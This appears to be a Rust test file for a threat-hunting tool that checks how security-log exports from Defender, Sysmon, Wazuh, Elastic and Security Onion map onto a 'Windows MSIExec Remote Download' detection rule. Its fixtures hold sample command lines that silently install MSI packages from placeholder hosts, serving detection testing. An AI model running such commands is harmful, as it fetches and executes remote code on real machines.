@@ -1,0 +1,233 @@
+//! The exports that people have: from a file in a product's own shape to a row of the rule Windows
+//! MSIExec Remote Download with the right user, dest, parent and command line. The files are those
+//! of `fixtures/formats`, whose reading `tests/formats_golden.rs` holds.
+
+#![allow(
+    clippy::unwrap_used,
+    clippy::indexing_slicing,
+    reason = "what goes wrong here must fail the test"
+)]
+
+use gimlet::cim::{Models, Sources};
+use gimlet::event::Zone;
+use gimlet::worker::hunt::{HuntOptions, Hunted, Pass, hunt};
+use gimlet::worker::rule::{Rule, RuleFiles};
+use std::path::{Path, PathBuf};
+
+const LINE: &str =
+    r#""C:\Windows\System32\msiexec.exe" /q /i "http://dl.example.test/a.msi?x=1&y=<2>""#;
+const PARENT: &str = r#"cmd.exe /c "cd /d C:\Temp & msiexec""#;
+const HOST: &str = "ws-017.corp.example";
+
+fn fixture(name: &str) -> PathBuf {
+    let folder = Path::new(env!("CARGO_MANIFEST_DIR")).join("fixtures/formats");
+    folder.join(format!("{name}.in"))
+}
+
+fn run(paths: Vec<PathBuf>, pass: Pass) -> Hunted {
+    let models = Models::built_in().unwrap();
+    let sources = Sources::built_in(&models).unwrap();
+    let rule = Rule::load(&RuleFiles::default(), &models, Zone::UTC).unwrap();
+    let options = HuntOptions {
+        paths,
+        pass,
+        ..HuntOptions::default()
+    };
+    hunt(&rule, &sources, &options, &mut ())
+}
+
+/// The rows of files, of the columns that are named; the same at every pass.
+fn rows_of(paths: &[PathBuf], columns: &[&str]) -> Vec<Vec<String>> {
+    let rows = |pass| {
+        let hunted = run(paths.to_vec(), pass);
+        let table = hunted.findings.table.clone();
+        let text = |row, column: &&str| {
+            let value = table.cell(row, column);
+            value.map_or("null".to_owned(), |value| value.as_text().into_owned())
+        };
+        let rows = table.rows.iter();
+        rows.map(|row| columns.iter().map(|column| text(row, column)).collect())
+            .collect::<Vec<Vec<String>>>()
+    };
+    let all = rows(Pass::Everything);
+    assert_eq!(rows(Pass::Rows), all, "{paths:?}");
+    assert_eq!(rows(Pass::Counted), all, "{paths:?}");
+    all
+}
+
+const WHO: [&str; 6] = [
+    "user",
+    "dest",
+    "parent_process_name",
+    "parent_process",
+    "process_name",
+    "process",
+];
+
+fn who(names: &[&str]) -> Vec<Vec<String>> {
+    let paths: Vec<PathBuf> = names.iter().map(|name| fixture(name)).collect();
+    rows_of(&paths, &WHO)
+}
+
+/// The row that all fixtures have.
+fn first() -> Vec<String> {
+    ["alice", HOST, "cmd.exe", PARENT, "msiexec.exe", LINE]
+        .map(str::to_owned)
+        .to_vec()
+}
+
+#[test]
+fn microsoft_defender() {
+    let renamed = [
+        "alice",
+        HOST,
+        "cmd.exe",
+        PARENT,
+        "setup.exe",
+        "setup.exe\r\n /i https://x.example.test/b.msi",
+    ];
+    for name in ["defender-csv", "defender-json-lines", "defender-event-hub"] {
+        // Known by its original name; the record that is no creation gives no row.
+        assert_eq!(
+            who(&[name]),
+            [renamed.map(str::to_owned).to_vec(), first()],
+            "{name}"
+        );
+        let columns = [
+            "original_file_name",
+            "process_hash",
+            "process_integrity_level",
+            "process_id",
+            "parent_process_id",
+            "process_path",
+            "vendor_product",
+            "firstTime",
+        ];
+        let rows = rows_of(&[fixture(name)], &columns);
+        let common = ["high", "8496", "9232"];
+        let product = "Microsoft Defender for Endpoint";
+        let of = |name, hash, path, time| {
+            let mut row = vec![name, hash];
+            row.extend(common);
+            row.extend([path, product, time]);
+            row
+        };
+        let image = r"C:\Windows\System32\msiexec.exe";
+        assert_eq!(
+            rows,
+            [
+                of(
+                    "MSIEXEC.EXE",
+                    "bb22",
+                    r"C:\Temp\setup.exe",
+                    "2025-06-26T16:09:00"
+                ),
+                of("msiexec.exe", "aa11", image, "2025-06-26T16:08:54"),
+            ],
+            "{name}"
+        );
+    }
+    // One event in three carriers is three events: a flat record's identity is its fields.
+    let hunted = run(vec![fixture("defender-json-lines")], Pass::Everything);
+    assert_eq!(hunted.loaded.tested, 2);
+}
+
+#[test]
+fn windows_events_of_evtxecmd_and_wazuh_are_the_events_that_they_were() {
+    for name in ["evtxecmd-csv", "evtxecmd-json", "wazuh-archives"] {
+        let rows = who(&[name]);
+        let mut audit = first();
+        // 4688 has a path for the parent's command line.
+        audit[3] = r"C:\Windows\System32\cmd.exe".to_owned();
+        assert_eq!(rows, [first(), audit], "{name}");
+        let columns = ["action", "process_id", "vendor_product", "firstTime"];
+        assert_eq!(
+            rows_of(&[fixture(name)], &columns),
+            [
+                ["allowed", "8496", "Microsoft Sysmon", "2025-06-26T16:08:54"],
+                [
+                    "allowed",
+                    "0x2130",
+                    "Microsoft Windows",
+                    "2025-06-26T16:08:54"
+                ],
+            ],
+            "{name}"
+        );
+    }
+    assert_eq!(who(&["wazuh-hits"]), [first()]);
+    // The same event in four carriers, and as XML, is one event.
+    let folder = tempfile::tempdir().unwrap();
+    let xml = folder.path().join("security.xml");
+    std::fs::write(&xml, AUDIT_XML).unwrap();
+    let mut paths: Vec<PathBuf> = [
+        "evtxecmd-csv",
+        "evtxecmd-json",
+        "wazuh-archives",
+        "wazuh-hits",
+    ]
+    .map(fixture)
+    .to_vec();
+    paths.push(xml);
+    let rows = rows_of(&paths, &["vendor_product", "count"]);
+    assert_eq!(
+        rows,
+        [["Microsoft Sysmon", "1"], ["Microsoft Windows", "1"]]
+    );
+}
+
+/// The 4688 of the fixtures, as the log has it.
+const AUDIT_XML: &str = r#"<Event xmlns="http://schemas.microsoft.com/win/2004/08/events/event"><System><Provider Name="Microsoft-Windows-Security-Auditing"/><EventID>4688</EventID><Version>2</Version><Level>0</Level><Task>13312</Task><Opcode>0</Opcode><Keywords>0x8020000000000000</Keywords><TimeCreated SystemTime="2025-06-26T16:08:54.2345678Z"/><EventRecordID>8</EventRecordID><Execution ProcessID="4" ThreadID="4200"/><Channel>Security</Channel><Computer>ws-017.corp.example</Computer><Security/></System><EventData><Data Name="SubjectUserSid">S-1-5-21-1-2-3-1104</Data><Data Name="SubjectUserName">alice</Data><Data Name="SubjectDomainName">CORP</Data><Data Name="SubjectLogonId">0x3e7</Data><Data Name="NewProcessId">0x2130</Data><Data Name="NewProcessName">C:\Windows\System32\msiexec.exe</Data><Data Name="TokenElevationType">%%1936</Data><Data Name="ProcessId">0x2410</Data><Data Name="CommandLine">&quot;C:\Windows\System32\msiexec.exe&quot; /q /i &quot;http://dl.example.test/a.msi?x=1&amp;y=&lt;2&gt;&quot;</Data><Data Name="TargetUserSid">S-1-0-0</Data><Data Name="TargetUserName">-</Data><Data Name="TargetDomainName">-</Data><Data Name="TargetLogonId">0x0</Data><Data Name="ParentProcessName">C:\Windows\System32\cmd.exe</Data><Data Name="MandatoryLabel">S-1-16-12288</Data></EventData></Event>
+"#;
+
+#[test]
+fn elastic_defend() {
+    let mut by_arguments = first();
+    by_arguments[5] = "msiexec /i https://x.example.test/b.msi".to_owned();
+    assert_eq!(who(&["elastic-defend-lines"]), [first(), by_arguments]);
+    for name in ["elastic-defend-hits", "elastic-defend-kibana-csv"] {
+        assert_eq!(who(&[name]), [first()], "{name}");
+        let columns = [
+            "original_file_name",
+            "process_integrity_level",
+            "process_hash",
+            "process_id",
+            "parent_process_id",
+            "firstTime",
+        ];
+        assert_eq!(
+            rows_of(&[fixture(name)], &columns),
+            [[
+                "msiexec.exe",
+                "high",
+                "bb22",
+                "8496",
+                "9232",
+                "2025-06-26T16:08:54"
+            ]],
+            "{name}"
+        );
+    }
+}
+
+#[test]
+fn security_onion() {
+    for name in [
+        "security-onion-csv",
+        "security-onion-json",
+        "security-onion-source-lines",
+    ] {
+        assert_eq!(who(&[name]), [first()], "{name}");
+        let columns = [
+            "process_id",
+            "parent_process_id",
+            "process_hash",
+            "firstTime",
+        ];
+        assert_eq!(
+            rows_of(&[fixture(name)], &columns),
+            [["8496", "9232", "SHA256=AA11", "2025-06-26T16:08:54"]],
+            "{name}"
+        );
+    }
+}
